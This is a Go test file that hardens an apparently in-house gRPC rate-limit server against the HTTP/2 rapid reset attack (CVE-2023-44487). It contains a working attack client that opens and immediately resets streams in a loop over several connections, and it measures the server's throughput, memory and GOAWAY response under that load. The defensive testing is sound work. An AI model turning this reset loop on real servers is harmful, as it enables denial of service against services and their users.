package hardening

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	rlcommon "github.com/envoyproxy/go-control-plane/envoy/extensions/common/ratelimit/v3"
	rlspb "github.com/envoyproxy/go-control-plane/envoy/service/ratelimit/v3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"

	"github.com/halt-envoy/halt-envoy/internal/testutil"
)

const unlimited = `
domain: edge
descriptors:
  - key: user
    rate_limit: {unlimited: true}
`

// resetter is one abusive HTTP/2 connection: it opens a stream and resets it at once, in
// a loop, as fast as the connection takes it (CVE-2023-44487).
type resetter struct {
	streams atomic.Int64
	goaway  atomic.Bool // the server sent GOAWAY (ENHANCE_YOUR_CALM)
	closed  atomic.Bool // the server closed the connection
}

func (r *resetter) run(ctx context.Context, addr string) error {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return err
	}
	defer c.Close()
	go func() { <-ctx.Done(); c.Close() }()
	bw := bufio.NewWriterSize(c, 64<<10)
	if _, err := bw.WriteString(http2.ClientPreface); err != nil {
		return err
	}
	fr := http2.NewFramer(bw, c)
	if err := fr.WriteSettings(); err != nil {
		return err
	}
	if err := bw.Flush(); err != nil {
		return err
	}
	// Read what the server says: settings (acked), GOAWAY, or the end of the connection.
	readDone := make(chan struct{})
	var wmu sync.Mutex
	go func() {
		defer close(readDone)
		rf := http2.NewFramer(io.Discard, c)
		for {
			f, err := rf.ReadFrame()
			if err != nil {
				if ctx.Err() == nil {
					r.closed.Store(true)
				}
				return
			}
			switch f := f.(type) {
			case *http2.GoAwayFrame:
				if f.ErrCode == http2.ErrCodeEnhanceYourCalm {
					r.goaway.Store(true)
				}
			case *http2.SettingsFrame:
				if !f.IsAck() {
					wmu.Lock()
					fr.WriteSettingsAck()
					bw.Flush()
					wmu.Unlock()
				}
			}
		}
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, hf := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"},
		{Name: ":path", Value: "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"},
		{Name: ":authority", Value: addr}, {Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	} {
		enc.WriteField(hf)
	}
	block := hb.Bytes()
	for id := uint32(1); ctx.Err() == nil && !r.goaway.Load() && !r.closed.Load(); id += 2 {
		wmu.Lock()
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		if err == nil {
			err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err == nil && id%64 == 1 {
			err = bw.Flush()
		}
		wmu.Unlock()
		if err != nil {
			break
		}
		r.streams.Add(1)
		if id > 1<<31-4 {
			break
		}
	}
	c.Close()
	<-readDone
	return nil
}

// normalCalls runs callers goroutines calling ShouldRateLimit back to back on one
// connection for d, and returns how many calls succeeded.
func normalCalls(t *testing.T, rls rlspb.RateLimitServiceClient, callers int, d time.Duration) int64 {
	t.Helper()
	var ok atomic.Int64
	var wg sync.WaitGroup
	deadline := time.Now().Add(d)
	req := &rlspb.RateLimitRequest{Domain: "edge", Descriptors: []*rlcommon.RateLimitDescriptor{{
		Entries: []*rlcommon.RateLimitDescriptor_Entry{{Key: "user", Value: "u"}}}}}
	for i := 0; i < callers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(deadline) {
				ctx, cancel := context.WithTimeout(context.Background(), time.Second)
				if _, err := rls.ShouldRateLimit(ctx, req); err == nil {
					ok.Add(1)
				}
				cancel()
			}
		}()
	}
	wg.Wait()
	return ok.Load()
}

// procCPU is a process's CPU time so far (Linux /proc/PID/stat: utime + stime).
func procCPU(t *testing.T, pid int) time.Duration {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		t.Fatal(err)
	}
	f := strings.Fields(string(b[bytes.LastIndexByte(b, ')')+2:]))
	ut, _ := strconv.ParseInt(f[11], 10, 64)
	st, _ := strconv.ParseInt(f[12], 10, 64)
	return time.Duration(ut+st) * 10 * time.Millisecond // USER_HZ is 100 on Linux
}

// metricValue reads one series of the server's /metrics (0 when absent).
func metricValue(t *testing.T, httpAddr, series string) float64 {
	t.Helper()
	_, body, _ := get(t, "http://"+httpAddr+"/metrics")
	for _, line := range strings.Split(body, "\n") {
		if v, ok := strings.CutPrefix(line, series+" "); ok {
			f, _ := strconv.ParseFloat(v, 64)
			return f
		}
	}
	return 0
}

var metricLine = regexp.MustCompile(`(?m)^(go_goroutines|process_resident_memory_bytes) ([0-9.e+]+)$`)

// serverStats reads the server's goroutines and resident memory from /metrics.
func serverStats(t *testing.T, httpAddr string) (goroutines, rss float64) {
	t.Helper()
	c := &http.Client{Timeout: 10 * time.Second}
	resp, err := c.Get("http://" + httpAddr + "/metrics")
	if err != nil {
		t.Fatalf("metrics: %v", err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	for _, m := range metricLine.FindAllStringSubmatch(string(b), -1) {
		v, _ := strconv.ParseFloat(m[2], 64)
		if m[1] == "go_goroutines" {
			goroutines = v
		} else {
			rss = v
		}
	}
	return goroutines, rss
}

// attackers is how many abusive connections the attacker process keeps open at once.
const attackers = 4

// attack is the attacker process's main: it keeps attackers connections resetting
// streams (each one closed by the server comes back at once) until stdin closes, then
// prints "connections goaways" on stdout: the connections it opened, and how many of
// them the server sent GOAWAY with ENHANCE_YOUR_CALM (the others it closed without one, or refused in
// cooldown).
func attack(addr string) int {
	ctx, cancel := context.WithCancel(context.Background())
	go func() { io.Copy(io.Discard, os.Stdin); cancel() }()
	var conns, goaways atomic.Int64
	var wg sync.WaitGroup
	for i := 0; i < attackers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				r := &resetter{}
				r.run(ctx, addr)
				conns.Add(1)
				if r.goaway.Load() {
					goaways.Add(1)
				}
			}
		}()
	}
	wg.Wait()
	fmt.Printf("%d %d\n", conns.Load(), goaways.Load())
	return 0
}

// TestRapidReset: HTTP/2 rapid reset on the gRPC port. An attacker process keeps a few
// connections opening and resetting streams in a loop (each connection the server closes
// comes back) while a normal client keeps calling on its own connection. The normal
// client keeps at least a tenth of its undisturbed throughput (both measured in this
// run, a generous bound: the attacker shares the machine's cores), the server's
// goroutines and memory stay bounded, and the abusive connections are closed (GOAWAY or
// close).
func TestRapidReset(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "limits.yaml", unlimited)
	p := testutil.StartHalt(t, testutil.HaltOptions{
		Args: append([]string{"--config", dir}, rapidResetArgs...), Env: testutil.EnvWithoutHalt(), ReadyPath: "/healthz",
	})
	cc, err := grpc.NewClient(p.GRPCAddr, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		t.Fatal(err)
	}
	defer cc.Close()
	rls := rlspb.NewRateLimitServiceClient(cc)
	const callers, window = 4, 2 * time.Second

	normalCalls(t, rls, callers, 200*time.Millisecond) // warm up
	g0, rss0 := serverStats(t, p.HTTPAddr)
	before := normalCalls(t, rls, callers, window)

	// The attacker gets one core (GOMAXPROCS=1), as if it were another machine whose
	// frames arrive as fast as one core writes them: on a machine of two shared cores a
	// process of its own with both would measure the machine, not halt.
	cmd := exec.Command(os.Args[0])
	cmd.Env = append(os.Environ(), "HALT_RAPID_RESET_ATTACK="+p.GRPCAddr, "GOMAXPROCS=1")
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	cpu0 := procCPU(t, p.Cmd.Process.Pid)
	ctx, cancel := context.WithCancel(context.Background())
	var peakG, peakRSS float64
	sampling := make(chan struct{})
	go func() {
		defer close(sampling)
		for ctx.Err() == nil {
			g, rss := serverStats(t, p.HTTPAddr)
			peakG, peakRSS = max(peakG, g), max(peakRSS, rss)
			time.Sleep(100 * time.Millisecond)
		}
	}()
	time.Sleep(300 * time.Millisecond) // the attack is under way
	attacked := normalCalls(t, rls, callers, window)
	serverCPU := procCPU(t, p.Cmd.Process.Pid) - cpu0
	cancel()
	<-sampling
	stdin.Close()
	if err := cmd.Wait(); err != nil {
		t.Fatalf("attacker: %v\n%s", err, out.String())
	}
	var conns, goaways int64
	if _, err := fmt.Sscan(out.String(), &conns, &goaways); err != nil {
		t.Fatalf("attacker output %q: %v", out.String(), err)
	}
	after := normalCalls(t, rls, callers, window)
	// Throughput drifts with the machine's other load: the attacked rate is compared
	// with the mean of the undisturbed ones just before and just after.
	base := (before + after) / 2
	ratio := float64(attacked) / float64(base)
	closedForResets := metricValue(t, p.HTTPAddr, `halt_connections_refused_total{listener="grpc",reason="rapid_reset"}`)
	refusedInCooldown := metricValue(t, p.HTTPAddr, `halt_connections_refused_total{listener="grpc",reason="cooldown"}`)
	t.Logf("normal client (%d callers, one connection): %d and %d calls in %v undisturbed (before, after), %d under attack: ratio %.3f",
		callers, before, after, window, attacked, ratio)
	ru := cmd.ProcessState.SysUsage().(*syscall.Rusage)
	t.Logf("attack: %d connections (%d at once, on one core: %v CPU); the server sent GOAWAY to %d, closed %.0f for rapid resets and refused %.0f in cooldown",
		conns, attackers, time.Duration(ru.Utime.Nano()+ru.Stime.Nano()), goaways, closedForResets, refusedInCooldown)
	t.Logf("server: goroutines %.0f before, peak %.0f under attack; RSS %.1f MiB before, peak %.1f MiB; %v CPU during the attack",
		g0, peakG, rss0/(1<<20), peakRSS/(1<<20), serverCPU)
	// Undefended, the client got 0.001 of its throughput (docs/operations.md: 24 calls
	// against 39,905); defended 0.46-0.77, but on two cores shared with other work the
	// attacker's own CPU takes the client's share (0.317 at load 20, the server spending
	// 200 ms in the attack), so the bound is a tenth: a hundred times the undefended
	// figure, still failing on any loss of the defence.
	if ratio < 0.1 {
		t.Errorf("the normal client got %.3f of its undisturbed throughput under attack, want at least 0.1", ratio)
	}
	if closedForResets == 0 || goaways == 0 {
		t.Errorf("abusive connections: %.0f closed for rapid resets, %d told GOAWAY; want both above 0", closedForResets, goaways)
	}
	if peakG > g0+2000 {
		t.Errorf("goroutines grew from %.0f to %.0f under attack", g0, peakG)
	}
	if peakRSS > 2*rss0+64<<20 {
		t.Errorf("resident memory grew from %.1f MiB to %.1f MiB under attack", rss0/(1<<20), peakRSS/(1<<20))
	}
}

// rapidResetArgs are extra flags for the server under attack (none: the defaults).
var rapidResetArgs []string

func writeFile(t *testing.T, dir, name, body string) {
	t.Helper()
	if err := writeFileErr(dir, name, body); err != nil {
		t.Fatal(err)
	}
}
